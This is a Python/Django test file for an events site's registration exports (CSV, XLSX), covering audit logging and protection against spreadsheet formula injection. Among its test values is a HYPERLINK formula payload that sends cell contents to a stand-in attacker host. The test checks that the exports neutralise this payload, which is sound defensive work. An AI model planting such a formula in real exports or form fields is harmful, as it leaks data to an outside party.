"""Exports of the registrations listing: CSV for French spreadsheet software,
XLSX, no formula smuggled in, and an audit-log entry for each."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from events.registrations.attendance import registration_mark_attendance
from events.registrations.choices import Attendance, ParticipantType
from events.registrations.models import Registration
from organisers.exports import (
    EXPORT_FIELDS,
    export_rows,
    log_export,
    neutralise,
    registrations_csv_lines,
    registrations_xlsx,
)
from organisers.selectors import registrations_for_admin
from tests.events.factories import build_territory
from tests.events.registrations.factories import build_registration_event, register
from tests.organisers.factories import (
    build_admin_user,
    build_communication_member,
    build_organiser,
)
from tests.pages import soup

pytestmark = pytest.mark.django_db

INDEX = "registrations_admin:index"
INJECTION = '=HYPERLINK("https://attaquant.example/?x="&A1;"Cliquez")'
COLUMN = {name: number for number, name in enumerate(EXPORT_FIELDS)}


@pytest.fixture
def organiser(home_page):
    return build_organiser()


@pytest.fixture
def registrations(index, event):
    session = event.sessions.first()
    camille = register(
        event,
        email="camille@example.org",
        sessions=[session],
        seats=2,
        companions=["Alex Durand"],
        organisation_name=INJECTION,
        phone="+33 6 12 34 56 78",
        accessibility_needs="Boucle magnétique",
        dietary_needs="Végétarien",
    ).registration
    registration_mark_attendance(registration=camille, attendance=Attendance.PRESENT)
    dominique = register(
        event, email="dominique@example.org", first_name="Dominique"
    ).registration
    other = build_registration_event(index, capacity=30, days=20)
    register(other, email="eli@example.org", first_name="Éli")
    return camille, dominique


def download(client, export_format: str, **filters):
    return client.get(reverse(INDEX), {**filters, "export": export_format})


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))


def test_the_csv_export_is_the_filtered_listing(
    client, organiser, event, registrations
):
    camille, dominique = registrations
    client.force_login(organiser)

    response = download(client, "csv", event=event.pk, ordering="created_at")

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith('.csv"')
    heading, *rows = csv_rows(response)
    assert len(heading) == len(EXPORT_FIELDS)
    assert [row[COLUMN["email"]] for row in rows] == [camille.email, dominique.email]
    first = rows[0]
    assert first[COLUMN["sessions"]] == event.sessions.first().title
    assert first[COLUMN["seats"]] == "2"
    assert first[COLUMN["companions"]] == "Alex Durand"
    assert first[COLUMN["accessibility_needs"]] == "Boucle magnétique"
    assert first[COLUMN["dietary_needs"]] == "Végétarien"
    assert first[COLUMN["attendance"]] == str(Attendance.PRESENT.label)
    assert first[COLUMN["event"]] == event.title
    # Formulas are inert: a leading apostrophe.
    assert first[COLUMN["organisation_name"]] == f"'{INJECTION}"
    assert first[COLUMN["phone"]] == "'+33 6 12 34 56 78"


def test_the_xlsx_export_is_the_filtered_listing(
    client, organiser, event, registrations
):
    camille, dominique = registrations
    client.force_login(organiser)

    response = download(client, "xlsx", event=event.pk, ordering="created_at")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    heading, *rows = sheet.iter_rows()
    assert len(heading) == len(EXPORT_FIELDS)
    assert [row[COLUMN["email"]].value for row in rows] == [
        camille.email,
        dominique.email,
    ]
    first = rows[0]
    assert first[COLUMN["seats"]].value == 2
    assert first[COLUMN["companions"]].value == "Alex Durand"
    # A date cell, in the site's time zone.
    created_at = first[COLUMN["created_at"]]
    assert created_at.is_date
    local = timezone.localtime(camille.created_at).replace(tzinfo=None)
    assert abs(created_at.value - local) < timedelta(seconds=1)
    assert first[COLUMN["cancelled_at"]].value is None
    # Formulas are inert: text cells, with Excel's quote prefix.
    injected = first[COLUMN["organisation_name"]]
    assert (injected.value, injected.data_type) == (INJECTION, "s")
    assert injected.quotePrefix
    assert not first[COLUMN["email"]].quotePrefix


def test_search_and_filters_apply_to_exports(client, organiser, registrations):
    client.force_login(organiser)

    _heading, *rows = csv_rows(download(client, "csv", q="dominique"))

    assert [row[COLUMN["email"]] for row in rows] == ["dominique@example.org"]


def site_history_rows(client) -> list[str]:
    response = client.get(reverse("wagtailadmin_reports:site_history"))
    assert response.status_code == 200
    return [
        " ".join(row.get_text().split())
        for row in soup(response).select("table.listing tbody tr")
    ]


def test_every_export_is_in_the_audit_log(client, organiser, event, registrations):
    client.force_login(organiser)

    csv_rows(download(client, "csv", event=event.pk, status="confirmed"))
    download(client, "xlsx", q="example")

    entries = ModelLogEntry.objects.filter(action="registrations.export").order_by(
        "timestamp", "pk"
    )
    assert [
        (entry.user, entry.data["format"], entry.data["rows"]) for entry in entries
    ] == [
        (organiser, "csv", 2),
        (organiser, "xlsx", 3),
    ]
    filtered, searched = entries
    # Logged on the registrations (no registration in particular).
    assert {entry.content_type for entry in entries} == {
        ContentType.objects.get_for_model(Registration)
    }
    assert not Registration.objects.filter(pk=filtered.object_id).exists()
    # Which filters: the query string, and readable.
    assert filtered.data["filters"] == f"event={event.pk}&status=confirmed"
    assert filtered.data["event"] == event.pk
    assert filtered.label.endswith(f" – {event.title}")
    event_filter, _status = filtered.data["filter_labels"]
    assert event_filter[1] == event.title
    assert searched.data["filters"] == "q=example"
    assert [value for _label, value in searched.data["filter_labels"]] == ["example"]
    assert "event" not in searched.data


def test_an_export_of_a_session_is_logged_with_its_event(
    client, organiser, event, registrations
):
    client.force_login(organiser)
    session = event.sessions.first()

    csv_rows(download(client, "csv", session=session.pk))

    entry = ModelLogEntry.objects.get(action="registrations.export")
    assert (entry.data["rows"], entry.data["event"]) == (1, event.pk)
    assert entry.label.endswith(f" – {event.title}")
    assert entry.data["filter_labels"][0][1] == f"{event.title} – {session.title}"


def test_organisers_see_the_exports_in_the_site_history(
    client, organiser, event, registrations
):
    client.force_login(organiser)
    csv_rows(download(client, "csv", event=event.pk, status="confirmed"))

    # Another organiser sees who exported what, with which filters.
    client.force_login(build_organiser("collegue"))
    (entry,) = [row for row in site_history_rows(client) if "(CSV)" in row]
    assert event.title in entry
    assert "organisatrice" in entry
    message = ModelLogEntry.objects.get(action="registrations.export").message
    assert message in entry
    assert event.title in message and "2" in message

    client.force_login(build_admin_user("racine", is_superuser=True, two_factor=True))
    assert [row for row in site_history_rows(client) if "(CSV)" in row] == [entry]

    # People with no access to registrations do not.
    client.force_login(build_communication_member())
    assert not [row for row in site_history_rows(client) if "(CSV)" in row]


def test_the_log_message_says_format_rows_and_filters(organiser):
    entry = log_export(
        user=organiser,
        export_format="xlsx",
        rows=12,
        filters="event=3&status=confirmed",
        filter_labels=[("Event", "Forum"), ("Status", "Confirmed")],
    )
    old = log_export(user=organiser, export_format="csv", rows=1, filters="q=x")
    del old.data["filter_labels"]  # as logged before they were kept

    with translation.override("en"):
        assert str(entry.message) == (
            "Exported 12 registrations (XLSX). Filters: Event: Forum; Status: Confirmed"
        )
        assert str(old.message) == "Exported 1 registration (CSV). Filters: q=x"


def test_the_plain_functions_write_the_same_files(registrations):
    queryset = registrations_for_admin().order_by("created_at")

    lines = list(registrations_csv_lines(queryset))
    stream = io.BytesIO()
    registrations_xlsx(queryset, stream)

    assert lines[0].startswith("\ufeff")
    assert len(lines) == 4
    sheet = load_workbook(stream).active
    assert sheet.max_row == 4
    assert sheet.max_column == len(EXPORT_FIELDS)


def test_rows_are_plain_values_read_in_a_few_queries(event, django_assert_num_queries):
    first, second = event.sessions.all()
    territory = build_territory()
    register(
        event,
        sessions=[second, first],
        territory=territory,
        participant_type=ParticipantType.ESS_ORGANISATION,
        companions=["Alex Durand", "Sam Petit"],
        seats=3,
        news_opt_in=True,
    )
    queryset = registrations_for_admin().filter(event=event)

    # The rows, their sessions; the names of events, sessions and territories
    # once each.
    with django_assert_num_queries(5):
        (row,) = list(export_rows(queryset))

    assert len(row) == len(EXPORT_FIELDS)
    assert row[COLUMN["sessions"]] == f"{first.title}, {second.title}"
    assert row[COLUMN["event"]] == event.title
    assert row[COLUMN["territory"]] == str(territory)
    assert row[COLUMN["participant_type"]] == str(
        ParticipantType.ESS_ORGANISATION.label
    )
    assert row[COLUMN["companions"]] == "Alex Durand, Sam Petit"
    assert row[COLUMN["news_opt_in"]] == gettext("Yes")
    assert row[COLUMN["seats"]] == 3
    assert row[COLUMN["created_at"]].tzinfo is None
    assert row[COLUMN["cancelled_at"]] is None


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"),
        ("+33", "'+33"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("La Ruche", "La Ruche"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert neutralise(text) == expected
